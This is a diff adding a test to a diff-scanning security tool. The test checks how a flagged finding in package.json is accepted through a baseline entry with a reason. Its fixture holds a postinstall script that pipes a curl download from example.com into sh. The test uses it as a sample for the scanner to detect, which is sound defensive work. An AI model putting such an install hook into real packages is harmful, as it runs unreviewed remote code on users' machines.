@@ -95,3 +95,19 @@ describe('baseline', () => {
     expect(loadActionBaseline(repo.dir, base, { ...defaultConfig(), baseline: false })).toBe(false);
   });
 });
+
+describe('accepting a finding in a file without comments', () => {
+  it('points to the baseline with the finding\'s fingerprint, and an entry with a reason accepts it', () => {
+    const repo = tempRepo();
+    repo.commit('init', { 'package.json': '{ "name": "x", "version": "1.0.0" }\n' });
+    repo.stage({ 'package.json': '{ "name": "x", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://example.com/i.sh | sh" } }\n' });
+    const first = cli(repo.dir, ['check', '--staged']);
+    const hint = /package\.json cannot hold a comment: to accept a finding there, add its fingerprint with a reason to the baseline, e\.g\. (\{.*\}) in \.diffwarden-baseline\.json\./.exec(first.stdout);
+    expect(hint).not.toBeNull();
+    const entry = JSON.parse(hint![1]!.replace('"reason":"..."', '"reason":"our installer, reviewed"')) as { fingerprint: string; rule: string };
+    writeFileSync(join(repo.dir, '.diffwarden-baseline.json'), JSON.stringify({ version: 1, findings: [entry] }));
+    const second = json(repo.dir, ['check', '--staged']);
+    expect(second.findings.filter((f) => f.ruleId === entry.rule)).toEqual([]);
+    expect(second.summary.baselined).toBe(1);
+  });
+});
